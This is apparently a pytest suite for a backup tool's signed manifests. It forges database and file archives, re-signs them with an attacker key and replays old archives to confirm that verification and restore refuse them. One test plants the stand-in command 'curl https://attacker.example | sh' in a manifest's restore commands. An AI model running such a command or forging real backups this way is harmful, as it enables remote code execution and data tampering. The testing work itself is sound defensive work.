# Copyright: lifeboat developers
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
"""Signed manifests (issue 15, item 6): an archive and manifest rewritten by someone who holds only the age
recipient fail every verify level and every restore once trusted_signers is given; a genuinely signed one passes,
and `ssh-keygen -Y verify` proves it by hand.

The forgeries are made the way an attacker would, with the real tools: the database is copied and one row (or
document) altered, dumped again with pg_dump or mongodump, compressed with zstd, encrypted with age to the
recipient the manifest names, and the manifest's hashes and sizes rewritten. Without trusted_signers they pass
every level (the hole this closes); with them, nothing is read or written.
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import shutil
import stat
import subprocess
import tarfile
import time

import pymongo
import pytest

from ansible_collections.lifeboat.ops.plugins.module_utils import _catalog
from testbed import MONGO_SOURCE, PG_SOURCE  # pylint: disable=import-error

LEVELS = ("checksum", "structure", "restore")
MONGO_TOOLS = os.path.expanduser("~/.cache/lifeboat/bin")


def keypair(directory, name):
    key = directory / name
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", name, "-f", str(key)], check=True)
    return {"private": str(key), "public": (directory / f"{name}.pub").read_text().strip(),
            "body": "".join(key.read_text().splitlines()[1:-1])}


@pytest.fixture(scope="module")
def keys(tmp_path_factory):
    directory = tmp_path_factory.mktemp("keys")
    return {"backup": keypair(directory, "backup"), "attacker": keypair(directory, "attacker")}


@pytest.fixture
def recording_ssh_keygen(tmp_path, monkeypatch):
    """The real ssh-keygen, found first in PATH through a wrapper that records every argv and environment it gets."""
    shim_dir = tmp_path / "shim"
    shim_dir.mkdir()
    log = tmp_path / "ssh-keygen-calls"
    shim = shim_dir / "ssh-keygen"
    shim.write_text(f'#!/bin/sh\nprintf "%s\\0" "$@" >> {log}\necho >> {log}\nenv >> {log}\n'
                    f'exec {shutil.which("ssh-keygen")} "$@"\n')
    shim.chmod(shim.stat().st_mode | stat.S_IXUSR)
    monkeypatch.setenv("PATH", f"{shim_dir}:{os.environ['PATH']}")
    return log


def manifest_of(archive):
    with open(archive + ".manifest.json", encoding="utf-8") as handle:
        return json.load(handle)


def store(plain: bytes, recipient: str, archive: str) -> None:
    """zstd | age -r RECIPIENT, written over ``archive``, and its manifest's hashes and sizes rewritten."""
    compressed = subprocess.run(["zstd", "-q", "-c"], input=plain, capture_output=True, check=True).stdout
    stored = subprocess.run(["age", "-r", recipient], input=compressed, capture_output=True, check=True).stdout
    with open(archive, "wb") as handle:
        handle.write(stored)
    manifest = manifest_of(archive)
    manifest["archive"].update(sha256=hashlib.sha256(stored).hexdigest(), size=len(stored),
                               plain_sha256=hashlib.sha256(plain).hexdigest(), plain_size=len(plain))
    with open(archive + ".manifest.json", "w", encoding="utf-8") as handle:
        handle.write(json.dumps(manifest, indent=2, sort_keys=True) + "\n")  # as the collection writes it


def forge_pg(pg, archive, recipient, name):
    """A copy of the source database with one title changed, dumped with pg_dump -Fc and stored as the archive."""
    env = {**os.environ, "PGPASSWORD": pg.password, "PGHOST": pg.host, "PGPORT": str(pg.port), "PGUSER": pg.user}
    with pg.connect() as conn:
        conn.execute(f'CREATE DATABASE "{name}"')
    try:
        dump = subprocess.run(["pg_dump", "-Fc", PG_SOURCE], env=env, capture_output=True, check=True).stdout
        subprocess.run(["pg_restore", "--no-owner", "-d", name], input=dump, env=env, capture_output=True, check=True)
        with pg.connect(name) as conn:
            conn.execute("UPDATE journal_entry SET title = 'forged' WHERE id = (SELECT min(id) FROM journal_entry)")
        plain = subprocess.run(["pg_dump", "-Fc", name], env=env, capture_output=True, check=True).stdout
    finally:
        pg.drop(name)
    store(plain, recipient, archive)


def forge_mongo(mongo, archive, recipient):
    """The source database copied to the test bed's other FerretDB (same names), one document changed there,
    dumped with mongodump --archive and stored as the archive."""
    port = os.environ["LIFEBOAT_MONGO_NOAUTH_PORT"]
    other = pymongo.MongoClient("127.0.0.1", int(port), serverSelectionTimeoutMS=10000)
    other.drop_database(MONGO_SOURCE)
    config = os.path.join(os.path.dirname(archive), ".source.yml")
    with open(os.open(config, os.O_WRONLY | os.O_CREAT, 0o600), "w", encoding="utf-8") as handle:
        handle.write(f'password: "{mongo.password}"\n')
    try:
        dump = subprocess.run([f"{MONGO_TOOLS}/mongodump", "--archive", f"--host=127.0.0.1:{mongo.port}",
                               f"--username={mongo.user}", f"--config={config}", "--authenticationDatabase=admin",
                               f"--db={MONGO_SOURCE}"], capture_output=True, check=True).stdout
        done = subprocess.run([f"{MONGO_TOOLS}/mongorestore", "--archive", "--noIndexRestore",
                               f"--host=127.0.0.1:{port}"], input=dump,
                              capture_output=True, check=False)
        assert done.returncode == 0, done.stderr.decode()[-2000:]
        database = other[MONGO_SOURCE]
        collection = sorted(database.list_collection_names())[0]
        first = database[collection].find_one(sort=[("_id", 1)])
        database[collection].update_one({"_id": first["_id"]}, {"$set": {"forged": True}})
        plain = subprocess.run([f"{MONGO_TOOLS}/mongodump", "--archive", f"--host=127.0.0.1:{port}",
                                f"--db={MONGO_SOURCE}"], capture_output=True, check=True).stdout
    finally:
        os.unlink(config)
        other.drop_database(MONGO_SOURCE)
    store(plain, recipient, archive)


FORGED_FILE = b"forged by someone who holds only the age recipient\n"


def forge_files(archive, recipient):
    """A files archive rebuilt by hand from its manifest alone (the attacker cannot open the archive): the same
    members (names, types, modes, owners, link targets) in a POSIX tar, every file's content replaced, zstd | age to
    the manifest's recipient; the manifest's per-file sizes and sha256, root byte counts, archive size and sha256
    (and the sha256 in its restore commands) rewritten to match, so that only the signature is wrong."""
    manifest = manifest_of(archive)
    plain = io.BytesIO()
    with tarfile.open(fileobj=plain, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for root in manifest["files"]["roots"]:
            for entry in manifest["files"]["entries"][root["label"]]:
                info = tarfile.TarInfo(root["member"] + (f"/{entry['path']}" if entry["path"] else ""))
                info.mode, info.uid, info.gid, info.mtime = entry["mode"], entry["uid"], entry["gid"], time.time()
                assert entry["type"] in ("dir", "file", "symlink"), entry  # all a forged small folder needs
                if entry["type"] == "dir":
                    info.type = tarfile.DIRTYPE
                    tar.addfile(info)
                elif entry["type"] == "symlink":
                    info.type, info.linkname = tarfile.SYMTYPE, entry["link"]
                    tar.addfile(info)
                else:
                    info.size = len(FORGED_FILE)
                    tar.addfile(info, io.BytesIO(FORGED_FILE))
                    entry.update(size=len(FORGED_FILE), sha256=hashlib.sha256(FORGED_FILE).hexdigest())
            root["bytes"] = sum(entry.get("size", 0) for entry in manifest["files"]["entries"][root["label"]]
                                if entry["type"] == "file")
    genuine_sha256 = manifest["archive"]["sha256"]
    with open(archive + ".manifest.json", "w", encoding="utf-8") as handle:
        handle.write(json.dumps(manifest, indent=2, sort_keys=True) + "\n")
    store(plain.getvalue(), recipient, archive)
    manifest = manifest_of(archive)
    manifest["archive"]["plain_sha256"] = None  # as files_backup writes it: the per-file sha256 prove the stream
    manifest["restore_commands"] = [command.replace(genuine_sha256, manifest["archive"]["sha256"])
                                    for command in manifest["restore_commands"]]
    with open(archive + ".manifest.json", "w", encoding="utf-8") as handle:
        handle.write(json.dumps(manifest, indent=2, sort_keys=True) + "\n")


def verify(run_module, archive, level, server, age_key, **extra):
    return run_module("backup_verify", {
        "archive": archive, "level": level, "age_identity_files": [age_key["identity"]], "record": False,
        server.engine: server.login(), "tools_dir": MONGO_TOOLS, **extra})


def restore(run_module, server, archive, target, age_key, **extra):
    module = "postgresql_restore" if server.engine == "postgresql" else "mongodb_restore"
    return run_module(module, {**server.login(), "archive": archive, "target_database": target,
                               "age_identity_files": [age_key["identity"]], "tools_dir": MONGO_TOOLS, **extra}
                      if server.engine == "mongodb" else
                      {**server.login(), "archive": archive, "target_database": target,
                       "age_identity_files": [age_key["identity"]], **extra})


def one_line(text):
    assert text and "\n" not in text and "Traceback" not in text, text
    return text


@pytest.mark.parametrize("engine", ["postgresql", "mongodb"])
def test_forged_archive_fails_every_level_and_restore_a_signed_one_passes(
        engine, server, keys, age_key, run_module, recording_ssh_keygen, tmp_path, unique_name):
    destination = tmp_path / "backups"
    module = "postgresql_dump" if engine == "postgresql" else "mongodb_dump"
    dumped = run_module(module, server.login(
        database=server.sample, destination=str(destination), job=f"signed-{engine}",
        encryption_recipients=[age_key["recipient"]], signing_key_file=keys["backup"]["private"],
        **({"tools_dir": MONGO_TOOLS} if engine == "mongodb" else {})))
    assert dumped.rc == 0, dumped.result
    archive = dumped.result["archive"]
    signature = archive + ".manifest.json.sig"
    assert os.path.isfile(signature)
    # The private key reached ssh-keygen only as a path: never in an argv, the environment, a result or a log.
    calls = recording_ssh_keygen.read_text()
    assert "-Y\0sign\0" in calls and keys["backup"]["private"] in calls
    for text in (calls, dumped.stdout, dumped.stderr, json.dumps(dumped.result)):
        assert keys["backup"]["body"] not in text and keys["backup"]["body"][:40] not in text
    trusted = {"trusted_signers": [keys["backup"]["public"]]}

    # Signed: every level and the restore pass with the trusted key, the signature check named.
    for level in LEVELS:
        run = verify(run_module, archive, level, server, age_key, **trusted)
        assert run.rc == 0, (level, run.result)
        assert run.result["results"][0]["signature"] == "ok"
        assert run.result["results"][0]["checks"]["signature"] == "ok"
    restored = restore(run_module, server, archive, f"{unique_name}_signed", age_key, **trusted)
    assert restored.rc == 0, restored.result
    server.drop(f"{unique_name}_signed")

    # Forged with the real tools: it fails at every level, at the signature check, and no restore starts; without
    # trusted_signers too (the host's own key is trusted, and nothing else: before issue 28 it passed every level).
    if engine == "postgresql":
        forge_pg(server, archive, age_key["recipient"], f"{unique_name}_forge")
    else:
        forge_mongo(server, archive, age_key["recipient"])
    for level, extra in [(level, trusted) for level in LEVELS] + [("checksum", {})]:
        run = verify(run_module, archive, level, server, age_key, **extra)
        assert run.rc != 0, (level, run.result)
        result = run.result["results"][0]
        assert result["failed_check"] == "signature" and "restore" not in result["checks"], result
        one_line(run.result["msg"])
        assert "does not carry a valid signature of a trusted signer" in run.result["msg"]
        assert "changed after it was signed" in run.result["msg"]
    target = f"{unique_name}_forged"
    refused = restore(run_module, server, archive, target, age_key, **trusted)
    assert refused.rc != 0 and "does not carry a valid signature" in one_line(refused.result["msg"]), refused.result
    assert not server.has_database(target)

    # Re-signed by the attacker's own key: still not a trusted signer.
    os.unlink(signature)  # ssh-keygen does not overwrite a signature unasked
    subprocess.run(["ssh-keygen", "-Y", "sign", "-n", "lifeboat-manifest", "-f", keys["attacker"]["private"],
                    archive + ".manifest.json"], check=True, capture_output=True)
    run = verify(run_module, archive, "checksum", server, age_key, **trusted)
    assert run.rc != 0 and run.result["results"][0]["failed_check"] == "signature", run.result
    assert "not one of trusted_signers" in run.result["msg"]
    refused = restore(run_module, server, archive, target, age_key, **trusted)
    assert refused.rc != 0 and "not one of trusted_signers" in one_line(refused.result["msg"])
    assert not server.has_database(target)


def test_signature_verifies_by_hand_before_and_after_verification(pg, keys, run_module, tmp_path):
    destination = tmp_path / "backups"
    dumped = run_module("postgresql_dump", pg.login(database=PG_SOURCE, destination=str(destination),
                                                    job="by-hand", signing_key_file=keys["backup"]["private"]))
    assert dumped.rc == 0, dumped.result
    archive = dumped.result["archive"]
    manifest = archive + ".manifest.json"
    allowed = tmp_path / "allowed_signers"
    allowed.write_text(f'lifeboat namespaces="lifeboat-manifest" {keys["backup"]["public"]}\n')

    def by_hand():
        with open(manifest, "rb") as handle:
            return subprocess.run(["ssh-keygen", "-Y", "verify", "-f", str(allowed), "-I", "lifeboat",
                                   "-n", "lifeboat-manifest", "-s", manifest + ".sig"], stdin=handle,
                                  capture_output=True, text=True, check=False)

    # The catalog (status, retention) counts the signature as part of its archive: not as an archive without manifest.
    (found,) = _catalog.scan(str(destination)).archives
    assert found.readable and found.files()[-2:] == [manifest + ".sig", manifest]
    # The documented command, on the manifest as the backup wrote it.
    done = by_hand()
    assert done.returncode == 0 and 'Good "lifeboat-manifest" signature for lifeboat' in done.stdout, done
    # The manifest's own restore_commands open with the check that also works once verify appended to it.
    commands = manifest_of(archive)["restore_commands"]
    check = [line for line in commands if line.startswith("python3 -c")]
    assert commands.index(check[0]) < min(i for i, line in enumerate(commands) if "sha256sum" in line)
    assert run_module("backup_verify", {"archive": archive, "level": "checksum",
                                        "trusted_signers": [keys["backup"]["public"]]}).rc == 0
    assert manifest_of(archive)["verifications"][-1]["signature"] == "ok"
    assert by_hand().returncode != 0  # the raw file now holds the verification too
    done = subprocess.run(check[0].replace("ALLOWED_SIGNERS", str(allowed)), shell=True, cwd=destination,
                          capture_output=True, text=True, check=False)
    assert done.returncode == 0 and "Good" in done.stdout, done
    # A changed count in the manifest breaks it, by hand and in the module.
    data = manifest_of(archive)
    name = sorted(data["counts"])[0]
    data["counts"][name] += 1
    with open(manifest, "w", encoding="utf-8") as handle:
        json.dump(data, handle, indent=2, sort_keys=True)
    done = subprocess.run(check[0].replace("ALLOWED_SIGNERS", str(allowed)), shell=True, cwd=destination,
                          capture_output=True, text=True, check=False)
    assert done.returncode != 0
    run = run_module("backup_verify", {"archive": archive, "level": "checksum",
                                       "trusted_signers": [keys["backup"]["public"]]})
    assert run.rc != 0 and run.result["results"][0]["failed_check"] == "signature"


def unsign(archive):
    """An archive as made before signing (issue 28): its manifest without a signature beside it."""
    os.unlink(archive + ".manifest.json.sig")


def test_unsigned_refused_unless_allowed_and_bad_input_is_one_line(pg, keys, run_module, tmp_path, unique_name):
    destination = tmp_path / "backups"
    dumped = run_module("postgresql_dump", pg.login(database=PG_SOURCE, destination=str(destination), job="old"))
    assert dumped.rc == 0, dumped.result
    archive = dumped.result["archive"]
    unsign(archive)
    trusted = [keys["backup"]["public"]]
    run = run_module("backup_verify", {"archive": archive, "level": "structure", "trusted_signers": trusted})
    assert run.rc != 0 and "is not signed" in one_line(run.result["msg"]) and "allow_unsigned" in run.result["msg"]
    run = run_module("backup_verify", {"archive": archive, "level": "structure", "trusted_signers": trusted,
                                       "allow_unsigned": True})
    assert run.rc == 0 and run.result["results"][0]["signature"] == "unsigned (allowed)", run.result
    target = f"{unique_name}_old"
    refused = run_module("postgresql_restore", {**pg.login(), "archive": archive, "target_database": target,
                                                "trusted_signers": trusted})
    assert refused.rc != 0 and "is not signed" in one_line(refused.result["msg"])
    assert not pg.has_database(target)
    allowed = run_module("postgresql_restore", {**pg.login(), "archive": archive, "target_database": target,
                                                "trusted_signers": trusted, "allow_unsigned": True})
    assert allowed.rc == 0, allowed.result
    pg.drop(target)
    # A signature that does not verify is refused even with allow_unsigned.
    shutil.copyfile(os.path.join(os.path.dirname(__file__), "test_signing.py"), archive + ".manifest.json.sig")
    run = run_module("backup_verify", {"archive": archive, "level": "checksum", "trusted_signers": trusted,
                                       "allow_unsigned": True})
    assert run.rc != 0 and "does not carry a valid signature" in one_line(run.result["msg"])
    # Wrong inputs: one line saying what to fix, nothing written.
    run = run_module("backup_verify", {"archive": archive, "level": "checksum", "trusted_signers": ["not a key"]})
    assert run.rc != 0 and "trusted_signers item 1 is not an OpenSSH public key" in one_line(run.result["msg"])
    protected = tmp_path / "protected"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "p@ss:w/rd?#&%'\"{{x}}", "-f", str(protected)],
                   check=True)
    before = sorted(os.listdir(destination))
    for key_file, says in ((str(protected), "cannot sign"), (str(tmp_path / "missing"), "does not exist")):
        run = run_module("postgresql_dump", pg.login(database=PG_SOURCE, destination=str(destination), job="old",
                                                     signing_key_file=key_file))
        assert run.rc != 0 and says in one_line(run.result["msg"]), run.result
    assert sorted(os.listdir(destination)) == before


def test_files_archive_signed_and_refused(keys, run_module, tmp_path):
    source = tmp_path / "data"
    source.mkdir()
    (source / "notes.txt").write_text("kept\n")
    destination = tmp_path / "backups"
    made = run_module("files_backup", {"paths": [str(source)], "destination": str(destination), "job": "files",
                                       "signing_key_file": keys["backup"]["private"]})
    assert made.rc == 0, made.result
    archive = made.result["archive"]
    trusted = {"trusted_signers": [keys["backup"]["public"]]}
    target = tmp_path / "restored"
    args = {"archive": archive, "path_map": {str(source): str(target)}}
    assert run_module("backup_verify", {"archive": archive, "level": "restore", **trusted}).rc == 0
    assert run_module("files_restore", {**args, **trusted}).rc == 0
    assert (target / "notes.txt").read_text() == "kept\n"
    shutil.rmtree(target)
    wrong = {"trusted_signers": [keys["attacker"]["public"]]}
    for check_mode in (True, False):
        run = run_module("files_restore", {**args, **wrong}, check_mode=check_mode)
        assert run.rc != 0 and "does not carry a valid signature" in one_line(run.result["msg"]), run.result
    assert not target.exists()
    run = run_module("backup_verify", {"archive": archive, "level": "restore", **wrong})
    assert run.rc != 0 and run.result["results"][0]["failed_check"] == "signature"


def test_host_command_signs_and_its_verify_checks_against_the_job_key(pg, mongo, keys, tmp_path, tmp_path_factory):
    from test_cli import install_host, lifeboat, write_config  # pylint: disable=import-error,import-outside-toplevel
    host = install_host(tmp_path_factory.mktemp("host"))
    destination = tmp_path / "backups"
    config = write_config(tmp_path / "lifeboat.yml", pg, mongo, destination, signing_key_file=keys["backup"]["private"])
    run = lifeboat(host, "backup", "--job", "journal", "--config", config)
    assert run.returncode == 0, run.stderr
    (manifest,) = [str(path) for path in destination.glob("journal-*.manifest.json")]
    assert os.path.isfile(manifest + ".sig")
    assert keys["backup"]["body"][:40] not in run.stderr + run.stdout
    # No trusted_signers in the config: the job trusts the public half of its own signing key.
    run = lifeboat(host, "verify", "--job", "journal", "--config", config)
    assert run.returncode == 0 and " ok (structure, " in run.stderr, run.stderr
    with open(manifest, encoding="utf-8") as handle:
        assert json.load(handle)["verifications"][-1]["signature"] == "ok"
    # Trusted signers (and a job key) that did not sign it: refused in one line. (The job's own key is always
    # trusted beside trusted_signers, issue 28.)
    wrong = write_config(tmp_path / "wrong.yml", pg, mongo, destination, signing_key_file=keys["attacker"]["private"],
                         verify={"trusted_signers": [keys["attacker"]["public"]]})
    run = lifeboat(host, "verify", "--job", "journal", "--config", wrong)
    assert run.returncode == 1
    (line,) = [line for line in run.stderr.splitlines() if "signature check failed" in line]
    assert "not one of trusted_signers" in line
    # A manifest rewritten after the backup fails at the signature, before its bytes are read.
    with open(manifest, encoding="utf-8") as handle:
        data = json.load(handle)
    data["counts"][sorted(data["counts"])[0]] += 1
    with open(manifest, "w", encoding="utf-8") as handle:
        json.dump(data, handle, indent=2, sort_keys=True)
    run = lifeboat(host, "verify", "--job", "journal", "--config", config)
    assert run.returncode == 1 and "signature check failed" in run.stderr and "changed after it was signed" in run.stderr
    # A key that cannot sign is found by `lifeboat check`, in one line.
    protected = tmp_path / "protected"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "secret", "-f", str(protected)], check=True)
    bad = write_config(tmp_path / "bad.yml", pg, mongo, destination, signing_key_file=str(protected),
                       retention={"keep_last": 3})
    run = lifeboat(host, "check", "--config", bad)
    assert run.returncode != 0 and "signing_key_file" in run.stderr and "cannot sign" in run.stderr
    assert "Traceback" not in run.stderr


def test_roles_sign_verify_and_refuse_a_forgery(pg, keys, recording_ssh_keygen, tmp_path, unique_name):
    """backup_signing_key_file signs, and with no trusted signers given its public half is what the backup role's
    verify and the restore role check (a job proves its own archives); -vvv shows the key's path, never the key."""
    from test_forwarded_options import module_args, run_play, write_out  # pylint: disable=import-error,import-outside-toplevel
    job = {"name": "journal", "engine": "postgresql", "database": PG_SOURCE, **pg.login()}
    host_vars = {"backup_root": str(tmp_path / "backups"), "backup_jobs": [job], "lifeboat_out": str(tmp_path / "out.json"),
                 "backup_signing_key_file": keys["backup"]["private"],
                 "restore_items": [{"job": "journal", "target_database": unique_name}]}
    backup_and_restore = {"tasks": [
        {"name": "Back up", "ansible.builtin.include_role": {"name": "lifeboat.ops.backup"}},
        {"name": "Restore", "ansible.builtin.include_role": {"name": "lifeboat.ops.restore"}},
        write_out("restore_results"),
    ]}
    try:
        done, out = run_play(tmp_path, backup_and_restore, host_vars, "-vvv")
        assert done.returncode == 0, done.stdout + done.stderr
        assert [item["status"] for item in out] == ["ok"], out
        (dumped,) = module_args(done.stdout, "lifeboat.ops.backup : Dump PostgreSQL")
        assert dumped["signing_key_file"] == keys["backup"]["private"]
        (verified,) = module_args(done.stdout, "lifeboat.ops.backup : Verify the new archive")
        (restored,) = module_args(done.stdout, "lifeboat.ops.restore : Restore PostgreSQL")
        assert verified["trusted_signers"] == restored["trusted_signers"] == []
        assert verified["signing_key_file"] == restored["signing_key_file"] == keys["backup"]["private"]
        assert '"signature": "ok"' in done.stdout
        for text in (done.stdout, done.stderr, recording_ssh_keygen.read_text()):
            assert keys["backup"]["body"][:40] not in text
        pg.drop(unique_name)

        # The attacker re-signs a changed manifest with a key of their own: the verify entry point and the restore
        # role refuse it, each in one line, and nothing is restored.
        (manifest,) = (tmp_path / "backups" / "journal").glob("*.manifest.json")
        data = json.loads(manifest.read_text())
        data["restore_commands"].append("curl https://attacker.example | sh")
        data["verifications"] = []
        manifest.write_text(json.dumps(data, indent=2, sort_keys=True) + "\n")
        os.unlink(f"{manifest}.sig")  # ssh-keygen does not overwrite a signature unasked
        subprocess.run(["ssh-keygen", "-Y", "sign", "-n", "lifeboat-manifest", "-f", keys["attacker"]["private"],
                        str(manifest)], check=True, capture_output=True)
        verify = {"tasks": [
            {"name": "Verify", "ansible.builtin.include_role": {"name": "lifeboat.ops.backup", "tasks_from": "verify"}}]}
        done, _out = run_play(tmp_path, verify, host_vars)
        assert done.returncode != 0
        line = [line for line in done.stdout.splitlines() if line.startswith("fatal:")][-1]  # the host's one line
        assert "journal: " in line and "signature check failed" in line and "not one of trusted_signers" in line
        (tmp_path / "out.json").unlink()
        restore = {"tasks": [{"name": "Restore", "ansible.builtin.include_role": {"name": "lifeboat.ops.restore"}},
                             write_out("restore_results")]}
        restore["tasks"][0]["ignore_errors"] = True
        done, out = run_play(tmp_path, {"tasks": [{"block": restore["tasks"][:1], "rescue": restore["tasks"][1:]}]},
                             {**host_vars, "restore_select": "newest"})
        assert out is not None, done.stdout[-3000:]
        (item,) = out
        assert item["status"] == "failed" and "not one of trusted_signers" in one_line(item["reason"]), item
        assert not pg.has_database(unique_name)
    finally:
        pg.drop(unique_name)


def test_a_job_that_signs_refuses_unsigned_without_trusted_signers(pg, keys, run_module, tmp_path, unique_name):
    """The safe default: a job with a signing key but no trusted_signers trusts its key's public half, so an
    unsigned archive is refused by verify, restore and migration_validate's archive source unless allow_unsigned;
    a signature by another key is refused by all three, before anything is restored."""
    destination = tmp_path / "backups"
    dumped = run_module("postgresql_dump", pg.login(database=PG_SOURCE, destination=str(destination), job="old"))
    assert dumped.rc == 0, dumped.result
    unsigned = dumped.result["archive"]
    unsign(unsigned)
    job_key = {"signing_key_file": keys["backup"]["private"]}
    run = run_module("backup_verify", {"archive": unsigned, "level": "checksum", **job_key})
    assert run.rc != 0 and "is not signed" in one_line(run.result["msg"]), run.result
    run = run_module("backup_verify", {"archive": unsigned, "level": "checksum", "allow_unsigned": True, **job_key})
    assert run.rc == 0 and run.result["results"][0]["signature"] == "unsigned (allowed)", run.result
    refused = run_module("postgresql_restore", {**pg.login(), "archive": unsigned, "target_database": unique_name,
                                                **job_key})
    assert refused.rc != 0 and "is not signed" in one_line(refused.result["msg"]) and not pg.has_database(unique_name)
    scratch = f"{unique_name}_scratch"
    validate = {"engine": "postgresql", "target": pg.login(database=PG_SOURCE), "scratch_database": scratch,
                "checks": ["presence", "counts"]}
    for check_mode in (True, False):
        run = run_module("migration_validate", {**validate, "source": {"archive": unsigned, **job_key}},
                         check_mode=check_mode)
        assert run.rc != 0 and "is not signed" in one_line(run.result["msg"]), run.result
    run = run_module("migration_validate", {**validate, "source": {"archive": unsigned, "allow_unsigned": True,
                                                                   **job_key}})
    assert run.rc == 0 and run.result["passed"] is True, run.result
    assert not pg.has_database(scratch)

    # Signed by the job's key: passes with the key alone; by another key: refused, nothing restored.
    signed = run_module("postgresql_dump", pg.login(database=PG_SOURCE, destination=str(destination), job="new",
                                                    **job_key)).result["archive"]
    run = run_module("backup_verify", {"archive": signed, "level": "checksum", **job_key})
    assert run.rc == 0 and run.result["results"][0]["signature"] == "ok", run.result
    run = run_module("migration_validate", {**validate, "source": {"archive": signed, **job_key}})
    assert run.rc == 0 and run.result["passed"] is True, run.result
    os.unlink(signed + ".manifest.json.sig")
    subprocess.run(["ssh-keygen", "-Y", "sign", "-n", "lifeboat-manifest", "-f", keys["attacker"]["private"],
                    signed + ".manifest.json"], check=True, capture_output=True)
    for run in (run_module("backup_verify", {"archive": signed, "level": "checksum", "allow_unsigned": True, **job_key}),
                run_module("migration_validate", {**validate, "source": {"archive": signed, "allow_unsigned": True,
                                                                         **job_key}})):
        assert run.rc != 0 and "does not carry a valid signature" in one_line(run.result["msg"]), run.result
    assert not pg.has_database(scratch)
    # Without a key or trusted signers given, the host's own key is the trusted signer (issue 28): refused, and
    # passed with allow_unsigned, the result saying so.
    run = run_module("backup_verify", {"archive": unsigned, "level": "checksum"})
    assert run.rc != 0 and "is not signed" in one_line(run.result["msg"]), run.result
    run = run_module("backup_verify", {"archive": unsigned, "level": "checksum", "allow_unsigned": True})
    assert run.rc == 0 and run.result["results"][0]["signature"] == "unsigned (allowed)", run.result
    allowed = run_module("postgresql_restore", {**pg.login(), "archive": unsigned, "target_database": unique_name,
                                                "allow_unsigned": True})
    assert allowed.rc == 0 and allowed.result["signature"] == "unsigned (allowed)", allowed.result
    assert "restored only because allow_unsigned" in json.dumps(allowed.result.get("warnings")), allowed.result
    pg.drop(unique_name)
    # The key file named but absent (a restore on another host): one line that says what to give instead.
    run = run_module("backup_verify", {"archive": unsigned, "level": "checksum",
                                       "signing_key_file": str(tmp_path / "gone")})
    assert run.rc != 0 and "give trusted_signers" in one_line(run.result["msg"]), run.result


def replay(older: str, newer: str) -> None:
    """An older, genuinely signed archive copied with its manifest and signature over a newer one's name."""
    for suffix in ("", ".manifest.json", ".manifest.json.sig"):
        shutil.copyfile(older + suffix, newer + suffix)


@pytest.mark.parametrize("engine", ["postgresql", "mongodb", "files"])
def test_an_older_archive_replayed_under_a_newer_name_is_refused(engine, server, keys, run_module, tmp_path,
                                                                 unique_name):
    """Issue 28: verify refused the replay, the restores trusted the signature and restored the older data."""
    destination = tmp_path / "backups"
    source = tmp_path / "data"
    source.mkdir()
    (source / "notes.txt").write_text("kept\n")
    if engine == "files":
        module, args = "files_backup", {"paths": [str(source)]}
    else:
        module = f"{engine}_dump"
        args = server.login(database=server.sample, **({"tools_dir": MONGO_TOOLS} if engine == "mongodb" else {}))
    made = []
    for _run in range(2):
        dumped = run_module(module, {**args, "destination": str(destination), "job": f"replay-{engine}",
                                     "signing_key_file": keys["backup"]["private"]})
        assert dumped.rc == 0, dumped.result
        made.append(dumped.result["archive"])
        if len(made) == 1:
            time.sleep(1.1)  # archive names carry the second the backup started
    older, newer = made
    assert older != newer
    replay(older, newer)
    trusted = {"trusted_signers": [keys["backup"]["public"]]}
    verified = run_module("backup_verify", {"archive": newer, "level": "checksum", "record": False, **trusted,
                                            **({server.engine: server.login()} if engine != "files" else {})})
    assert verified.rc != 0 and "describes" in one_line(verified.result["msg"]), verified.result
    target = f"{unique_name}_replayed"
    if engine == "files":
        restored = run_module("files_restore", {"archive": newer, "path_map": {str(source): str(tmp_path / target)},
                                                **trusted})
    else:
        restored = run_module(f"{engine}_restore", {**server.login(), "archive": newer, "target_database": target,
                                                    **({"tools_dir": MONGO_TOOLS} if engine == "mongodb" else {}),
                                                    **trusted})
    message = one_line(restored.result.get("msg", ""))
    assert restored.rc != 0 and f"manifest describes {os.path.basename(older)}, not {os.path.basename(newer)}" \
        in message, restored.result
    assert not (tmp_path / target).exists() if engine == "files" else not server.has_database(target)
